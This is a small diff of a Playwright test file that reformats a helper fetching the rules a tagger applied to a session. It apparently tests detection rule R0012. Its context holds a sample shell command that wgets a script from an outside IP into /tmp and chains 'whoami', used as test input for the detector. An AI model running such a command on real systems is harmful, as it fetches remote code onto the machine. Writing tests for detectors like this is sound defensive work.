@@ -7,7 +7,11 @@ const RULE = 'R0012';
 const COMMAND = 'wget http://203.0.113.5/x.sh -O /tmp/x; whoami';
 
 /** Techniques and rules of a session once the tagger was there: the second statement is always tagged. */
-async function rulesOf(request: import('@playwright/test').APIRequestContext, token: string, session: string): Promise<string[]> {
+async function rulesOf(
+  request: import('@playwright/test').APIRequestContext,
+  token: string,
+  session: string,
+): Promise<string[]> {
   const headers = { Authorization: `Bearer ${token}` };
   let rules: string[] = [];
   await expect
